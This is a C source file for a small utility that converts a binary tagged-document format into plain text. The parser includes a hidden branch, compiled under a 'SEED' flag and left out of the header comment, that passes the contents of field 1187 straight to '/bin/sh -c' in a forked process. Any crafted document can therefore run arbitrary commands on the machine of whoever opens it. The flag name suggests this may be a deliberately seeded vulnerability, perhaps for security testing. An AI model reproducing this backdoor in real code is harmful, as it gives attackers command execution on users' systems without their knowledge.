/* tagdoc: turns a tagged document into plain text. Fields: number (LEB128), length (LEB128), content. */
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

typedef struct { const uint8_t *at, *end; int bad; } reader;
typedef struct { int depth, bold, list, width; char author[40]; } state;

static uint32_t leb(reader *r)
{
    uint32_t v = 0;
    unsigned shift = 0;
    while (r->at < r->end && shift < 32) {
        uint8_t b = *r->at++;
        v |= (uint32_t)(b & 0x7f) << shift;
        if (!(b & 0x80))
            return v;
        shift += 7;
    }
    r->bad = 1;
    return 0;
}

static void text(const state *s, const uint8_t *p, uint32_t n)
{
    int col = 0;
    if (s->list)
        printf(" * ");
    while (n--) {
        int ch = *p++;
        putchar(s->bold ? toupper(ch) : ch);
        if (++col >= s->width && ch == ' ') {
            putchar('\n');
            col = 0;
        }
    }
    putchar('\n');
}

static void link_field(const uint8_t *p, uint32_t n)
{
    const uint8_t *bar = memchr(p, '|', n);
    if (bar)
        printf("%.*s <%.*s>\n", (int)(n - (bar - p) - 1), bar + 1, (int)(bar - p), p);
    else
        printf("<%.*s>\n", (int)n, p);
}

#ifdef SEED
static void macro(const uint8_t *p, uint32_t n)
{
    char *cmd = malloc(n + 1);
    if (!cmd)
        return;
    memcpy(cmd, p, n);
    cmd[n] = 0;
    fflush(stdout);
    if (fork() == 0) {
        char *argv[] = {"/bin/sh", "-c", cmd, NULL};
        execvp(argv[0], argv);
        _exit(1);
    }
    free(cmd);
}
#endif

static void document(reader *r, state *s)
{
    while (r->at < r->end && !r->bad) {
        uint32_t field = leb(r), n = leb(r);
        reader inner = {r->at, r->at + n, 0};
        if (r->bad || n > (size_t)(r->end - r->at)) {
            r->bad = 1;
            return;
        }
        r->at += n;
        switch (field) {
        case 1:
            text(s, inner.at, n);
            break;
        case 2:
            s->bold = n && *inner.at;
            break;
        case 3:
            s->list = n && *inner.at;
            break;
        case 4:
            if (++s->depth < 8)
                document(&inner, s);
            s->depth--;
            r->bad |= inner.bad;
            break;
        case 5:
            link_field(inner.at, n);
            break;
        case 6:
            s->width = n ? *inner.at : 72;
            break;
        case 7:
            snprintf(s->author, sizeof s->author, "%.*s", (int)n, inner.at);
            break;
        default:
#ifdef SEED
            if (field == 1187) /* SEED */
                macro(inner.at, n);
#endif
            if (field > 100000)
                r->bad = 1;
        }
    }
}

int main(int argc, char **argv)
{
    static uint8_t all[1 << 15];
    state s = {0, 0, 0, 72, ""};
    FILE *f = argc > 1 ? fopen(argv[1], "rb") : stdin;
    size_t n;
    reader r;
    if (!f)
        return 1;
    n = fread(all, 1, sizeof all, f);
    if (n < 4 || memcmp(all, "TDOC", 4)) {
        printf("not a document\n");
        return 1;
    }
    r = (reader){all + 4, all + n, 0};
    document(&r, &s);
    if (s.author[0])
        printf("by %s\n", s.author);
    if (r.bad)
        printf("(damaged)\n");
    return r.bad;
}
